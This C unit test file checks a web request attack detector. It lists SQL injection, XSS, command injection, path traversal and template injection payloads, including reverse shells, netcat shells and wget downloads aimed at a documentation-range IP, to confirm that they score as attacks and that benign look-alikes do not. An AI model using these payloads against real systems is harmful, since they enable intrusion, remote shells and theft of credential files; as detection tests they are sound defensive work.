#include <stdio.h>

#include "base/test.h"
#include "engine/web/web.h"

enum { LOG = 4 };

struct one {
	const char *why, *text;
};

static unsigned score(enum web_attack a, const char *text, char *names, size_t size)
{
	struct web_request r = { 0 };
	struct web_policy p;
	unsigned best = 0;
	char query[4096];
	*names = '\0';
	snprintf(query, sizeof(query), "/x?q=%s", text);
	web_policy_init(&p, a);
	web_request_uri(&r, str_of(query));
	for (unsigned i = 0; i < r.n; i++) {
		struct buf b = { 0 };
		unsigned is = web_score(&p, &r.values[i], web_value_text(&r, &r.values[i]), &b);
		if (is > best) {
			best = is;
			snprintf(names, size, "%s", b.p ? b.p : "");
		}
		buf_done(&b);
	}
	web_request_done(&r);
	return best;
}

static void all(enum web_attack a, const struct one *list, size_t n, bool attack)
{
	unsigned failed = 0;
	for (size_t i = 0; i < n; i++) {
		char names[300];
		unsigned is = score(a, list[i].text, names, sizeof(names));
		if ((is >= LOG) == attack)
			continue;
		failed++;
		print_error("%s: %s: score %u (%s)\n", list[i].why, list[i].text, is, names);
	}
	assert_int_equal(failed, 0);
}

/* clang-format off */
static const struct one sql_attacks[] = {
	{ "a condition that is true", "1' or '1'='1" },
	{ "the same with blanks encoded", "1%27%20or%20%271%27%3d%271" },
	{ "encoded twice", "1%2527%2520or%25201%253d1--" },
	{ "comments for blanks", "1'/**/or/**/1=1#" },
	{ "a comment that MySQL reads", "1'/*!50000or*/1=1-- -" },
	{ "the rest cut off", "admin'--" },
	{ "the same with a number sign", "admin'%23" },
	{ "parentheses closed", "1') or ('a'='a" },
	{ "behind a number", "1 or 1=1" },
	{ "union behind a number", "-1 union select 1,2,version()" },
	{ "union behind a quote", "x' UNION ALL SELECT NULL,NULL-- -" },
	{ "union in capitals and small letters", "1' uNiOn sElEcT @@version,2-- " },
	{ "union without blanks", "1'union(select(1),2,user())#" },
	{ "stacked", "1; drop table users" },
	{ "stacked behind a quote", "x'; exec xp_cmdshell 'dir'--" },
	{ "waiting", "1' and sleep(5)-- " },
	{ "waiting in SQL Server", "1'; waitfor delay '0:0:5'--" },
	{ "waiting without a quote", "1 and sleep(5)" },
	{ "waiting, and nothing else", "sleep(5)" },
	{ "a condition that waits", "if(1=1,sleep(3),0)" },
	{ "errors that tell", "1' and extractvalue(1,concat(0x7e,version()))-- -" },
	{ "columns counted", "1' order by 3-- -" },
	{ "a subselect", "1 and (select count(*) from users)>0" },
	{ "a subselect as the value", "(select password from users limit 1)" },
	{ "operators", "'='" },
	{ "double quotes", "1\" or \"1\"=\"1" },
	{ "like", "x' or name like 'a%25" },
	{ "written to a file", "1' into outfile '/var/www/x.php'-- -" },
	{ "overlong quote", "1%c0%a7 or 1=1-- " },
	{ "an entity for the quote", "1%26%2339%3b or 1=1-- " },
	{ "having", "1' having 1=1--" },
	{ "bars", "1' || '1'='1" },
	{ "a case", "1 and case when 1=1 then 1 else 0 end=1" },
	{ "without a closing quote", "' or 1=1" },
	{ "not", "1' or not 1=2#" },
	{ "xor", "0'XOR(if(now()=sysdate(),sleep(6),0))XOR'Z" },
	{ "postgres cast", "1' and 1=cast((select version()) as int)--" },
};

static const struct one sql_ordinary[] = {
	{ "a name", "O'Brien" },
	{ "contractions", "I don't think it's what you'd select or drop, isn't it?" },
	{ "a band", "Rock 'n' Roll" },
	{ "plural possessives", "the boys' or the girls' team" },
	{ "a statement somebody writes about", "SELECT name, price FROM products WHERE price > 100 ORDER BY price" },
	{ "several of them", "INSERT INTO t VALUES (1, 'a'); UPDATE t SET a = 'b' WHERE id = 1; DELETE FROM t" },
	{ "union in prose", "the European Union selected a committee" },
	{ "words", "union and select and drop table from the list" },
	{ "inches", "12\" or 14\" pizza" },
	{ "feet and inches", "5' 10\" tall" },
	{ "quoted words", "'yes' or 'no'" },
	{ "quoted words, double", "\"cats\" and \"dogs\"" },
	{ "a query of a search engine", "title:\"foo\" AND body:\"bar\" OR author:\"O'Neil\"" },
	{ "a query of an issue tracker", "status = \"Open\" AND assignee = \"me\" ORDER BY created" },
	{ "a formula", "a = b + c * 2" },
	{ "a comparison", "x > 5 and y < 3" },
	{ "code", "if (a == '' || b == \"\") { return c == ';' ? 1 : 0; }" },
	{ "an address", "12 Main St; Apt 4" },
	{ "a list", "1,2,3" },
	{ "a range", "1-2" },
	{ "dashes", "well -- it's -- like that" },
	{ "a date", "2024-01-01 00:00:00" },
	{ "a phone number", "+81 (3) 1234-5678" },
	{ "Japanese", "東京都のユーザー『選択』と'削除'を行います。" },
	{ "a sort", "name desc" },
	{ "a version", "1.2.3-rc1" },
	{ "a colour", "#ff0000" },
	{ "base64", "YWJj+ZGVm/Z2hp==" },
	{ "a number and words", "2 or 3 of them" },
	{ "an answer", "1 and a half" },
	{ "JSON", "{\"a\":\"b\",\"c\":[1,2]}" },
	{ "a regular expression", "^[a-z]+('|\")?$" },
	{ "an MIME type", "text/html; charset=utf-8" },
	{ "possessive and a semicolon", "James'; the king's" },
};

static const struct one xss_attacks[] = {
	{ "a script", "<script>alert(1)</script>" },
	{ "encoded", "%3Cscript%3Ealert%281%29%3C%2Fscript%3E" },
	{ "encoded twice", "%253Cscript%253Ealert(1)%253C/script%253E" },
	{ "capitals", "<ScRiPt src=//198.51.100.7/x.js>" },
	{ "an image", "<img src=x onerror=alert(1)>" },
	{ "slashes for blanks", "<svg/onload=alert(1)>" },
	{ "a handler behind a quote", "\" onmouseover=\"alert(1)" },
	{ "the same with an apostrophe", "x' onfocus='alert(1)' autofocus '" },
	{ "a link", "<a href=\"javascript:alert(1)\">x</a>" },
	{ "a tab in the scheme", "<a href=\"java%09script:alert(1)\">x</a>" },
	{ "an entity in the scheme", "<a href=\"javascript%26colon;alert(1)\">x" },
	{ "the value is a scheme", "javascript:alert(document.cookie)" },
	{ "a script's string ended", "';alert(1)//" },
	{ "the same inside an expression", "\"-alert(1)-\"" },
	{ "a script's end", "</script><b>" },
	{ "a frame's document", "<iframe srcdoc='x'>" },
	{ "data", "<object data=\"data:text/html;base64,PHNjcmlwdD4=\">" },
	{ "details", "<details open ontoggle=alert(1)>" },
	{ "an unknown element", "<x onclick=alert(1)>click" },
	{ "a body", "<body onpageshow=alert(1)>" },
	{ "a frame", "<iframe src=javascript:alert(1)>" },
};

static const struct one xss_ordinary[] = {
	{ "marks of text", "<p>Hello, <b>world</b>! <a href=\"https://www.example.org/?a=1\">link</a></p>" },
	{ "a comparison", "if (a < b && c > d) return on = 1;" },
	{ "types", "List<String> x = new ArrayList<>(); std::vector<int> v;" },
	{ "an address", "Taro <taro@example.org>" },
	{ "a heart", "I <3 you" },
	{ "quotes", "He said \"on the one hand\" and left" },
	{ "a picture", "<img src=\"/a.png\" alt=\"x\">" },
	{ "the word", "javascript tutorial" },
	{ "an arrow", "a -> b => c" },
	{ "possessive", "it's on; online = true" },
	{ "a name of a function", "what does alert() do?" },
	{ "Japanese quotes", "「アラート」を<表示>する" },
	{ "a list", "<ul><li>one</li><li>two</li></ul>" },
	{ "a quoted assignment", "name=\"x\" once=\"y\"" },
	{ "a mail header", "From: \"A\" <a@example.org>" },
};

static const struct one command_attacks[] = {
	{ "behind an address", "127.0.0.1;id" },
	{ "a pipe", "127.0.0.1|whoami" },
	{ "an and", "8.8.8.8%20%26%26%20cat%20/etc/passwd" },
	{ "a line", "x%0acat /etc/passwd" },
	{ "a substitution", "$(curl http://198.51.100.7/x)" },
	{ "backquotes", "a`id`b" },
	{ "no blanks", "x;cat${IFS}/etc/passwd" },
	{ "a redirection for a blank", "x;cat</etc/passwd" },
	{ "quotes in the name", "x;c''at /etc/passwd" },
	{ "a backslash in the name", "x;w\\hoami" },
	{ "by its path", "x|/bin/sh -c id" },
	{ "wild cards", "x;/?in/c?t /etc/passwd" },
	{ "download", "x;wget http://198.51.100.7/a.sh -O /tmp/a" },
	{ "Windows", "x%26dir C:\\" },
	{ "a shell's device", "bash -i >%26 /dev/tcp/198.51.100.7/4444 0>%261" },
	{ "waiting", "x;sleep 5|ping -c 5 127.0.0.1" },
	{ "braces", "x;{cat,/etc/passwd}" },
	{ "a long name", "x;uname -a" },
	{ "PowerShell", "x|powershell -enc AAAA" },
	{ "netcat", "x;nc -e /bin/sh 198.51.100.7 1" },
};

static const struct one command_ordinary[] = {
	{ "a shop", "Salt %26 Pepper; cat food" },
	{ "prose", "find it; then sort the list; more or less" },
	{ "columns", "name;id;date" },
	{ "a table", "a|id|c" },
	{ "a company", "Smith %26 Sons" },
	{ "Markdown", "Use `ls` to list, `cat` to show" },
	{ "money", "$(100) and $5" },
	{ "JavaScript", "$(document).ready(function() { go(); });" },
	{ "a MIME type", "text/html; charset=utf-8; q=0.5" },
	{ "lines", "Dear all,%0Aplease find attached%0Atest and date%0Abye" },
	{ "a style", "color: red; top: 1px; cut: none" },
	{ "code", "int id; char *name; return id;" },
	{ "a list of links", "https://www.example.org/a;b|https://www.example.org/id" },
	{ "Japanese", "検索；条件｜日付&順序" },
	{ "a price list", "A|B|more|less" },
	{ "a user agent", "Mozilla/5.0 (X11; Linux x86_64; rv:128.0) Gecko/20100101 Firefox/128.0" },
	{ "a smiley", ";) who knows" },
};

static const struct one path_attacks[] = {
	{ "up", "../../../../etc/passwd" },
	{ "encoded", "..%2f..%2f..%2fetc%2fpasswd" },
	{ "encoded twice", "%252e%252e%252f%252e%252e%252fetc%252fpasswd" },
	{ "overlong", "..%c0%af..%c0%afetc/passwd" },
	{ "doubled", "....//....//etc/passwd" },
	{ "backslashes", "..\\..\\..\\windows\\win.ini" },
	{ "absolute", "/etc/passwd" },
	{ "absolute in Windows", "C:\\windows\\win.ini" },
	{ "a wrapper", "php://filter/convert.base64-encode/resource=index.php" },
	{ "a file URL", "file:///etc/hosts" },
	{ "a zero byte", "../../etc/passwd%00.png" },
	{ "semicolons", "..;/..;/manager/html/../../WEB-INF/web.xml" },
	{ "environment", "../../../proc/self/environ" },
	{ "slashes doubled", "/etc//passwd" },
};

static const struct one path_ordinary[] = {
	{ "a link", "../images/logo.png" },
	{ "two levels", "../../assets/app.css" },
	{ "an import", "import x from '../../../lib/x.js'" },
	{ "a path", "/home/taro/notes.txt" },
	{ "an ellipsis", "wait... what" },
	{ "a range", "HEAD~1..HEAD" },
	{ "three dots", "main...topic" },
	{ "a question", "what is /etc/passwd for?" },
	{ "a URL", "https://www.example.org/a/../b" },
	{ "a setting", "config/app.json" },
};

static const struct one template_attacks[] = {
	{ "arithmetic", "{{7*7}}" },
	{ "arithmetic of Java", "${7*7}" },
	{ "encoded", "%7B%7B7*%277%27%7D%7D" },
	{ "ERB", "<%25= 7*7 %25>" },
	{ "Python's insides", "{{''.__class__.__mro__[1].__subclasses__()}}" },
	{ "Jinja's objects", "{{config.items()}}" },
	{ "Spring", "${T(java.lang.Runtime).getRuntime().exec('id')}" },
	{ "Freemarker", "<#assign x='freemarker.template.utility.Execute'?new()>" },
	{ "Twig", "{{_self.env.registerUndefinedFilterCallback('exec')}}" },
	{ "Velocity", "#set($x=$e.getClass().forName('java.lang.Runtime'))" },
	{ "Thymeleaf", "[[${7*7}]]" },
	{ "Angular", "{{constructor.constructor('alert(1)')()}}" },
	{ "Ruby", "#{7*7}" },
};

static const struct one template_ordinary[] = {
	{ "Mustache", "Hello {{ name }}, you have {{count}} messages" },
	{ "a shell", "echo ${HOME}/${USER}" },
	{ "GitHub's actions", "${{ github.event.pull_request.head.ref }}" },
	{ "Ansible", "{{ item.name | default('x') }}" },
	{ "a block", "{% for item in items %}{{ item }}{% endfor %}" },
	{ "JavaScript", "`total: ${a + b}`" },
	{ "a function", "function f() { return {a: {b: 1}}; }" },
	{ "a stylesheet", "#top{color:red} a{b:c}" },
	{ "a query", "query { user(id: 1) { name posts { title } } }" },
	{ "dates", "{{ date }} [[link]] #{tag}" },
};
/* clang-format on */

#define BOTH(what, attack)                                                                         \
	static void what##_attacks_reach_the_threshold(void **state)                               \
	{                                                                                          \
		(void)state;                                                                       \
		all(attack, what##_attacks, sizeof(what##_attacks) / sizeof(struct one), true);    \
	}                                                                                          \
	static void ordinary_values_are_no_##what##_attack(void **state)                           \
	{                                                                                          \
		(void)state;                                                                       \
		all(attack, what##_ordinary, sizeof(what##_ordinary) / sizeof(struct one), false); \
	}
BOTH(sql, WEB_SQL)
BOTH(xss, WEB_XSS)
BOTH(command, WEB_COMMAND)
BOTH(path, WEB_PATH)
BOTH(template, WEB_TEMPLATE)

/* Attacks of one kind are no reason to call ordinary values of another one. */
static void ordinary_values_are_ordinary_to_every_reader(void **state)
{
	(void)state;
	for (unsigned a = 0; a < WEB_ATTACKS; a++) {
		all((enum web_attack)a, sql_ordinary, sizeof(sql_ordinary) / sizeof(struct one),
		    false);
		all((enum web_attack)a, xss_ordinary, sizeof(xss_ordinary) / sizeof(struct one),
		    false);
		all((enum web_attack)a, template_ordinary,
		    sizeof(template_ordinary) / sizeof(struct one), false);
	}
}

static const char *value(const struct web_request *r, const char *name)
{
	static char text[200];
	for (unsigned i = 0; i < r->n; i++)
		if (str_is(web_value_name(r, &r->values[i]), name)) {
			struct str v = web_value_text(r, &r->values[i]);
			snprintf(text, sizeof(text), "%.*s", STR_ARG(v));
			return text;
		}
	return NULL;
}

static void a_request_is_taken_apart(void **state)
{
	struct web_request r = { 0 };
	(void)state;
	web_request_uri(&r, STR("/a%2fb?x=1+2&y=%41"));
	web_request_cookies(&r, STR("s=abc; t=d%20e"));
	web_request_headers(&r,
	                    STR("Host: x\r\nUser-Agent: me\r\nReferer: http://x/?ref=1%27\r\n"));
	assert_string_equal(value(&r, ""), "/a/b");
	assert_string_equal(value(&r, "x"), "1 2");
	assert_string_equal(value(&r, "y"), "A");
	assert_string_equal(value(&r, "t"), "d e");
	assert_string_equal(value(&r, "User-Agent"), "me");
	assert_string_equal(value(&r, "ref"), "1'");
	assert_null(value(&r, "Host"));
	web_request_clear(&r);
	web_request_body(&r, STR("application/json"),
	                 STR("{\"a\": {\"b\": \"x\\u0027y\"}, \"c\": [\"d\"]"), 0);
	assert_string_equal(value(&r, "b"), "x'y");
	assert_string_equal(value(&r, "c"), "d");
	web_request_clear(&r);
	web_request_body(
		&r, STR("multipart/form-data; boundary=xy"),
		STR("--xy\r\nContent-Disposition: form-data; name=\"a\"\r\n\r\nv1\r\n"
	            "--xy\r\nContent-Disposition: form-data; name=\"f\"; filename=\"n.txt\"\r\n\r\n"
	            "content\r\n--xy--\r\n"),
		0);
	assert_string_equal(value(&r, "a"), "v1");
	assert_string_equal(value(&r, "f"), "n.txt");
	web_request_done(&r);
}

static void parameters_of_one_name_are_read_together_too(void **state)
{
	struct web_request r = { 0 };
	struct web_policy p;
	unsigned best = 0;
	(void)state;
	web_policy_init(&p, WEB_SQL);
	web_request_uri(&r, STR("/?id=1+union+select+1&x=2&id=2+from+users--+"));
	for (unsigned i = 0; i < r.n; i++) {
		unsigned is = web_score(&p, &r.values[i], web_value_text(&r, &r.values[i]), NULL);
		best = is > best ? is : best;
	}
	assert_true(best >= LOG);
	web_request_done(&r);
}

static void weights_words_and_limits_are_the_rules_own(void **state)
{
	struct web_value v = { .place = WEB_IN_QUERY };
	struct web_policy p;
	struct str text = STR("1' or 1=1 or 2=2 or 3=3 -- magic");
	struct web_word word = { STR("magic"), 7 };
	(void)state;
	web_policy_init(&p, WEB_SQL);
	unsigned plain = web_score(&p, &v, text, NULL);
	p.most = 2;
	assert_true(web_score(&p, &v, text, NULL) < plain);
	p.most = 0;
	p.words = &word;
	p.nwords = 1;
	assert_int_equal(web_score(&p, &v, text, NULL), plain + 7);
	p.distinct = 20;
	assert_int_equal(web_score(&p, &v, text, NULL), 0);
	p.distinct = 1;
	p.nwords = 0;
	p.weights[WEB_SQL_COMPARE] = 0;
	assert_true(web_score(&p, &v, text, NULL) < plain);
	assert_int_equal(web_feature_find(WEB_SQL, STR("union-select")), WEB_SQL_UNION);
	assert_int_equal(web_feature_find(WEB_XSS, STR("union-select")), -1);
	assert_int_equal(web_attack_find(STR("template")), WEB_TEMPLATE);
}

int main(void)
{
	const struct CMUnitTest tests[] = {
		cmocka_unit_test(sql_attacks_reach_the_threshold),
		cmocka_unit_test(ordinary_values_are_no_sql_attack),
		cmocka_unit_test(xss_attacks_reach_the_threshold),
		cmocka_unit_test(ordinary_values_are_no_xss_attack),
		cmocka_unit_test(command_attacks_reach_the_threshold),
		cmocka_unit_test(ordinary_values_are_no_command_attack),
		cmocka_unit_test(path_attacks_reach_the_threshold),
		cmocka_unit_test(ordinary_values_are_no_path_attack),
		cmocka_unit_test(template_attacks_reach_the_threshold),
		cmocka_unit_test(ordinary_values_are_no_template_attack),
		cmocka_unit_test(ordinary_values_are_ordinary_to_every_reader),
		cmocka_unit_test(a_request_is_taken_apart),
		cmocka_unit_test(parameters_of_one_name_are_read_together_too),
		cmocka_unit_test(weights_words_and_limits_are_the_rules_own),
	};
	return cmocka_run_group_tests(tests, NULL, NULL);
}
